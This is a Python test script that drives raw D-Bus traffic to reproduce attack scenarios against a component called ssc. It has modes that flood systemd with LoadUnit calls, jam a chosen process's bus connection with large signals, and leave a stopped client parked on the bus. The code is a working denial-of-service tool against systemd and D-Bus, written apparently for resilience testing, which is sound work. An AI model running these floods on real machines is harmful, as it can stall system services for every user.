#!/usr/bin/python3
"""A raw D-Bus client on the system bus for the attack scenarios (python3-minimal only).

  dbus-client.py flood N            N LoadUnit calls of unknown unit names, pipelined: each
                                    makes PID 1 emit UnitNew (and later UnitRemoved) to
                                    every direct connection
  dbus-client.py jam PID SIZE N     N signals with a SIZE-byte string, sent by name to the
                                    bus connection of process PID (waited for up to 20 s),
                                    as any user may; says
                                    "delivered" if it was still connected after them
  dbus-client.py park PATH          what a frozen ssc leaves: connects to PATH (systemd's
                                    private socket or the bus), authenticates, on the bus
                                    says Hello and subscribes to JobRemoved as ssc does,
                                    then stops itself (SIGSTOP) without reading
"""
import signal
import time
import os
import socket
import struct
import sys

BUS = "/run/dbus/system_bus_socket"


def pad(buf, n):
    buf.extend(b"\0" * (-len(buf) % n))


def string(buf, s, kind="s"):
    data = s.encode()
    if kind == "g":
        buf.append(len(data))
    else:
        pad(buf, 4)
        buf.extend(struct.pack("<I", len(data)))
    buf.extend(data + b"\0")


def message(kind, serial, fields, signature="", body=b""):
    """kind 1 call, 4 signal; fields: [(code, 'o'|'s'|'g', value)]."""
    head = bytearray()
    for code, typ, value in fields + ([(8, "g", signature)] if signature else []):
        pad(head, 8)
        head.extend(bytes([code, 1]) + typ.encode() + b"\0")
        string(head, value, typ)
    out = bytearray(b"l" + bytes([kind, 0, 1]))
    out.extend(struct.pack("<III", len(body), serial, len(head)))
    out.extend(head)
    pad(out, 8)
    return bytes(out + body)


def body_string(s):
    buf = bytearray()
    string(buf, s)
    return bytes(buf)


class Bus:
    def __init__(self, path=BUS):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(path)
        uid = str(os.getuid()).encode().hex()
        self.sock.sendall(b"\0AUTH EXTERNAL " + uid.encode() + b"\r\nBEGIN\r\n")
        self.serial = 0
        self.input = b""
        line = b""
        while not line.endswith(b"\r\n"):
            line += self.sock.recv(1)
        if not line.startswith(b"OK "):
            sys.exit("authentication refused: %r" % line)
        self.call("/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello",
                  "org.freedesktop.DBus")
        self.replies(1)

    def call(self, path, iface, member, dest, signature="", body=b""):
        self.serial += 1
        fields = [(1, "o", path), (2, "s", iface), (3, "s", member), (6, "s", dest)]
        self.sock.sendall(message(1, self.serial, fields, signature, body))

    def signal(self, dest, body):
        self.serial += 1
        fields = [(1, "o", "/org/example/Jam"), (2, "s", "org.example.Jam"),
                  (3, "s", "Jam"), (6, "s", dest)]
        self.sock.sendall(message(4, self.serial, fields, "s", body))

    def reply(self):
        """The type (2 return, 3 error) and body of the next reply; signals are skipped."""
        while True:
            while len(self.input) < 16:
                self.more()
            body, _, fields = struct.unpack("<III", self.input[4:16])
            start = (16 + fields + 7) // 8 * 8
            while len(self.input) < start + body:
                self.more()
            kind, data = self.input[1], self.input[start:start + body]
            self.input = self.input[start + body:]
            if kind in (2, 3):
                return kind, data

    def replies(self, n):
        """Reads until n method returns or errors have arrived."""
        for _ in range(n):
            self.reply()

    def pid_of(self, name):
        self.call("/org/freedesktop/DBus", "org.freedesktop.DBus",
                  "GetConnectionUnixProcessID", "org.freedesktop.DBus", "s", body_string(name))
        kind, data = self.reply()
        return struct.unpack("<I", data[:4])[0] if kind == 2 else None

    def unique_names(self):
        self.call("/org/freedesktop/DBus", "org.freedesktop.DBus", "ListNames",
                  "org.freedesktop.DBus")
        _, data = self.reply()
        names, at = [], 4
        end = 4 + struct.unpack("<I", data[:4])[0]
        while at < end:
            at = (at + 3) // 4 * 4
            n = struct.unpack("<I", data[at:at + 4])[0]
            names.append(data[at + 4:at + 4 + n].decode())
            at += 4 + n + 1
        return [n for n in names if n.startswith(":")]

    def more(self):
        data = self.sock.recv(1 << 16)
        if not data:
            sys.exit("the bus closed the connection")
        self.input += data


def park(path):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    out = b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\nBEGIN\r\n"
    if path == BUS:
        dbus = ("/org/freedesktop/DBus", "org.freedesktop.DBus")
        rule = ("type='signal',sender='org.freedesktop.systemd1',"
                "path='/org/freedesktop/systemd1',interface='org.freedesktop.systemd1.Manager',"
                "member='JobRemoved'")
        fields = [(1, "o", dbus[0]), (2, "s", dbus[1]), (6, "s", dbus[1])]
        out += message(1, 1, fields + [(3, "s", "Hello")])
        out += message(1, 2, fields + [(3, "s", "AddMatch")], "s", body_string(rule))
    sock.sendall(out)
    print("parked on %s" % path, flush=True)
    os.kill(os.getpid(), signal.SIGSTOP)


def main():
    if sys.argv[1] == "park":
        park(sys.argv[2])
        return
    bus = Bus()
    if sys.argv[1] == "flood":
        n, batch = int(sys.argv[2]), 200
        for start in range(0, n, batch):
            count = min(batch, n - start)
            for i in range(start, start + count):
                bus.call("/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager",
                         "LoadUnit", "org.freedesktop.systemd1", "s",
                         body_string("ssc-flood-%d-%d.service" % (os.getpid(), i)))
            bus.replies(count)
        print("flood: %d LoadUnit calls answered" % n)
    elif sys.argv[1] == "jam":
        pid, size, n = int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
        for _ in range(200):
            names = [name for name in bus.unique_names() if bus.pid_of(name) == pid]
            if names:
                break
            time.sleep(0.1)
        else:
            sys.exit("jam: no bus connection of pid %d after 20 s" % pid)
        text = body_string("x" * size)
        for _ in range(n):
            bus.signal(names[0], text)
        # The bus handles a connection's messages in order: once this is answered, the
        # signals have been routed.
        print("jam: %d signals of %d bytes sent to %s%s"
              % (n, len(text), names[0], ", delivered" if bus.pid_of(names[0]) == pid else ""))
    else:
        sys.exit(__doc__)


main()
